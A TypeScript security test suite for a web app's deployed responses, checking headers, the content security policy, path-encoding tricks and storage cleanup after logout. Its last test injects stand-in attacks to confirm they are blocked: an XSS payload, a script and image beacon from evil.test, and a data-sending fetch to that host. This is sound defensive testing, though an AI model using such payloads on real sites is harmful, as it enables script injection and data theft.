import { enter, signIn } from "./api-session.ts";
import { expect, logOut, test } from "./product.ts";
import { send } from "./raw-request.ts";
import type { Answer } from "./raw-request.ts";

// Security properties of the built product as seen over the wire.

const COMMON = {
  "cross-origin-resource-policy": "same-origin",
  "strict-transport-security": "max-age=31536000",
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
  "referrer-policy": "strict-origin-when-cross-origin",
  "permissions-policy": "camera=(), geolocation=(), microphone=(), payment=()",
};
const OF_THE_API = {
  ...COMMON,
  "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
};

test("documents, assets, redirects and refusals carry the security headers", async () => {
  const home = await send("GET", "/");
  const [, script = ""] = home.text.match(/src="(\/assets\/[^"]+\.js)"/) ?? [];
  const asked: [method: string, path: string, status: number][] = [
    ["GET", "/", 200],
    ["HEAD", "/", 200],
    ["GET", "/dashboard", 200],
    ["GET", "/groups/%2e%2e/nothing", 404],
    ["GET", "/nothing-here.php", 404],
    ["GET", "//elsewhere.test/", 307],
    ["GET", "/index.html", 307],
    ["GET", "/%61pi/auth/session", 307],
    ["POST", "/", 405],
    ["DELETE", "/dashboard", 405],
    ["GET", script, 200],
    ["GET", "/favicon.svg", 200],
  ];
  for (const [method, path, status] of asked) {
    const answer = await send(method, path);
    expect([path, answer.status]).toEqual([path, status]);
    expect(answer.headers, path).toMatchObject(COMMON);
    expect(answer.headers["cross-origin-opener-policy"]).toBe("same-origin-allow-popups");
    const policy = answer.headers["content-security-policy"] ?? "";
    // Three scripts stand in the pages: they set the theme, and choose the language of what the build has drawn.
    expect(policy).toMatch(
      /^default-src 'none'; script-src 'self'(?: 'sha256-[\w+/]{43}='){3}; style-src 'self'; /,
    );
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toMatch(/; connect-src 'self' \S+\/api\/oauth2\/token; /);
    expect(policy).toContain("; require-trusted-types-for 'script'; trusted-types 'none'");
    expect(policy).not.toMatch(/unsafe-|\*/);
    const { location } = answer.headers;
    if (location !== undefined) expect(location).toMatch(/^\/(?!\/)/);
  }
});

test("the Discord callback page keeps its opener, with all other policies unchanged", async () => {
  const [home, callback] = [await send("GET", "/"), await send("GET", "/discord/callback")];
  expect(callback.headers["cross-origin-opener-policy"]).toBe(undefined);
  expect(callback.headers).toMatchObject(COMMON);
  const policyOf = ({ headers }: Answer) => headers["content-security-policy"];
  expect(policyOf(callback)).toBe(policyOf(home));
});

test("every API response carries the security headers and forbids caching", async () => {
  const json = { "content-type": "application/json" };
  const asked: [string, string, number, Parameters<typeof send>[2]?][] = [
    ["GET", "/api/auth/session", 200],
    ["HEAD", "/api/auth/session", 200],
    ["OPTIONS", "/api/auth/session", 204],
    ["POST", "/api/auth/session", 405],
    ["GET", "/api", 404],
    ["GET", "/api/", 404],
    ["GET", "/api//auth/session", 404],
    ["GET", "/api/auth/session/", 404],
    ["GET", "/api/auth/session%00", 404],
    ["GET", "/api/auth/%73ession", 200],
    ["GET", "/elsewhere/../api/auth/sessions", 401],
    ["GET", "/api/auth/sessions", 401],
    ["GET", "/api/groups/%E0%A4%A", 401],
    ["GET", "/api/skills?ids=x", 400],
    ["POST", "/api/auth/claim-main", 400, { headers: json, body: ["{"] }],
    ["POST", "/api/auth/claim-main", 415, { headers: { "content-type": "text/xml" }, body: ["<"] }],
    ["POST", "/api/auth/logout", 204],
    ["GET", "/api/auth/login/start", 405, { headers: { "x-http-method-override": "POST" } }],
  ];
  for (const [method, path, status, init] of asked) {
    const answer = await send(method, path, init);
    expect([method, path, answer.status]).toEqual([method, path, status]);
    expect(answer.headers, path).toMatchObject({ ...OF_THE_API, "cache-control": "no-store" });
    expect(answer.headers["x-request-id"]).toMatch(/^[\da-f-]{36}$/);
    expect(answer.headers["access-control-allow-origin"]).toBe(undefined);
    if (status >= 400 && method !== "HEAD") {
      const body: object = JSON.parse(answer.text);
      expect(Object.keys(body)).toEqual(["error"]);
    }
  }
});

test("no alternative spelling of a path reaches the API around the Worker", async () => {
  for (const path of ["//api/auth/sessions", "/API/auth/sessions", "/api%2fauth/sessions"]) {
    const { status, text } = await send("GET", path);
    expect(text.startsWith("<!doctype html>") || status === 307).toBe(true);
  }
});

test("after a logout, a shared computer has nothing of the person who used it", async ({
  page,
}) => {
  await signIn(page, "Aurelia Voss");
  await page.goto("/groups/create");
  await page.getByLabel("Name").fill("Half a draft");
  await page.goto("/admin/pilots");
  await page.getByLabel("Character").fill("Mira Tal");
  await page.getByLabel("Character").press("Enter");
  await page.getByRole("link", { name: "Mira Tal" }).first().click();
  await page.getByRole("heading", { level: 1 }).waitFor();
  await page.goto("/dashboard");
  await page.evaluate(() => localStorage.setItem("muster.screen.charactersView", "cards"));
  await logOut(page);
  const kept = await page.evaluate(async () => ({
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    cookies: document.cookie,
    caches: await caches.keys(),
    databases: await indexedDB.databases(),
  }));
  expect(kept).toEqual({
    local: ["muster.screen.charactersView"],
    session: [],
    cookies: "",
    caches: [],
    databases: [],
  });
  for (const cookie of await page.context().cookies()) expect(cookie.httpOnly).toBe(true);
  await page.goBack();
  await expect(page.getByRole("button", { name: "Log in with EVE Online" })).toBeVisible();
  await expect(page.getByRole("button", { name: "Logout" })).toHaveCount(0);
});

test("the content security policy blocks and reports scripts, styles, frames, pictures and requests", async ({
  page,
  newPilot,
  expectedErrors,
}) => {
  const name = await newPilot("Injector");
  await enter(page, name);
  const policy = String((await send("GET", "/")).headers["content-security-policy"]);
  const [, tokenUrl = ""] = /connect-src 'self' (\S+);/.exec(policy) ?? [];
  // The attacks start here; before this point, any report fails the test.
  expectedErrors.push(
    /Content Security Policy/,
    /'Trusted(HTML|Script|ScriptURL)'/,
    /status of 400/,
    /^Asked evil.test$/,
  );
  const violated = await page.evaluate(async (discordTokenUrl) => {
    const reports: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      reports.push(effectiveDirective),
    );
    const add = (tag: string, attributes: Record<string, string>, text = "") => {
      const element = document.createElement(tag);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      element.append(text);
      document.body.append(element);
    };
    const failureOf = (attack: () => unknown) => {
      try {
        attack();
        return "none";
      } catch (error) {
        return error instanceof Error ? error.name : "unknown";
      }
    };
    const failures = [
      () => add("script", { src: "https://evil.test/x.js" }),
      () => (document.body.innerHTML = "<img src=x onerror=alert(1)>"),
      () => document.write("<p>"),
    ].map(failureOf);
    add("script", {}, "globalThis.isOwned = true");
    add("style", {}, "body { display: none }");
    add("p", { style: "color: red" });
    add("iframe", { src: "/" });
    add("img", { src: "https://evil.test/x.png?stolen" });
    const isSent = (url: string) =>
      fetch(url, { method: "POST" }).then(
        () => true,
        () => false,
      );
    const foreign: string = "https://evil.test/x.js";
    await import(foreign).catch(() => {});
    const sent = {
      evil: await isSent("https://evil.test/"),
      discord: await isSent(discordTokenUrl.replace("/token", "/token/revoke")),
      token: await isSent(discordTokenUrl),
    };
    // The reports come later; each attack has a directive of its own.
    for (let waits = 0; waits < 100 && new Set(reports).size < 7; waits += 1) {
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    return { reports, failures, sent, isOwned: "isOwned" in globalThis };
  }, tokenUrl);
  expect(violated.isOwned).toBe(false);
  expect(violated.failures).toEqual(["TypeError", "TypeError", "TypeError"]);
  expect(violated.sent).toEqual({ evil: false, discord: false, token: true });
  expect([...new Set(violated.reports)].toSorted()).toEqual([
    "connect-src",
    "frame-src",
    "img-src",
    "require-trusted-types-for",
    "script-src-elem",
    "style-src-attr",
    "style-src-elem",
  ]);
});
